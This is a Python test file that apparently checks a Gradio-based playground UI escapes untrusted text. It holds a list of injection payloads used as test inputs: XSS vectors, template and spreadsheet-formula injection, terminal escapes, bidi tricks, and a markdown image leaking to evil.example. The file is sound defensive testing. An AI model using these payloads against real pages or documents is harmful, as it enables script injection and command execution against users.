"""Words of visitors, files and services are words: never markup, whatever they look like (81)."""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from backends.remote.responses import clip
from core import metadata
from core.errors import PlaygroundError
from tests.core.pictures.picture_samples import texts
from tests.ui.page_parts import PARTS
from ui import history_tab, launch, markup, messages

TEXTS = {
    "image": "<img src=x onerror=alert(1)>",
    "script": "</textarea></script><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "closing": "'></dd></dl><iframe srcdoc='<script>alert(1)</script>'>",
    "markdown image": "![x](https://evil.example/?leak)",
    "markdown link": "[here](javascript:alert(1))",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% x %}",
    "spreadsheet": "=cmd|' /C calc'!A0",
    "formula": '@SUM(1+1)*cmd|\' /C calc\'!A0,"=HYPERLINK(""http://evil.example"")"',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "vector": "<svg/onload=alert(1)><math><mi//xlink:href='data:x,<script>'>",
    "comment": "<!--><script>alert(1)</script-->",
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "direction": "\u202egnp.exe \u2066 \u200b",
}


class Shape(HTMLParser):
    """What a browser would build: elements with their attributes' names, not the words."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[Any] = []
        self.words = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.mark.parametrize("place", PARTS)
@pytest.mark.parametrize("name", TEXTS)
def test_no_text_becomes_markup(place: str, name: str) -> None:
    """The page is built of the same elements as with plain words, and the words are all there."""
    text = TEXTS[name]
    drawn = Shape(PARTS[place](text))
    assert drawn.found == Shape(PARTS[place]("plain words")).found
    if place in ("a notice", "its details"):
        assert text in drawn.words.replace("\\", "") or place == "its details"


def test_no_template_of_the_page_runs_its_values() -> None:
    """Gradio evaluates what `{{ }}` was filled with: `${alert(1)}` in a prompt would act."""
    for file in Path(history_tab.__file__).parent.glob("*.py"):
        assert not re.search(r"\{\{[#\w]", file.read_text(encoding="utf-8")), file.name
    for script in (
        "history.js",
        "history-tools.js",
        "history-select.js",
        "history-lists.js",
        "viewer-own.js",
    ):
        text = (launch.ASSETS / script).read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacent|document\.write|eval\(", text)


@pytest.mark.parametrize("name", TEXTS)
def test_case_31_what_a_service_says_is_plain(name: str) -> None:
    """No tag is left, no control character, nothing that turns the direction of the line."""
    said = clip(TEXTS[name])
    assert "<" not in said
    assert ">" not in said
    assert not any(unicodedata.category(letter) in ("Cc", "Cf") for letter in said)


@pytest.mark.parametrize("name", TEXTS)
def test_what_a_dropped_file_claims_is_only_words(name: str) -> None:
    """Who wrote it is told by a name of ours, never by one from the file."""
    text = TEXTS[name]
    reading = metadata.read(
        texts(parameters=f"{text}\nSteps: 1, Seed: 2, Size: 3x4, Version: {text}")
    )
    assert reading is None or messages.restored(reading) == "Written by A1111."


def test_an_error_with_markup_stays_one_sentence() -> None:
    """Errors quote what they refuse; where they are drawn they are escaped."""
    said = markup.notice(messages.trouble(PlaygroundError("“<b>”", advice="<i>")))
    assert said == '<p class="notice error" role="alert">“&lt;b&gt;” &lt;i&gt;</p>'
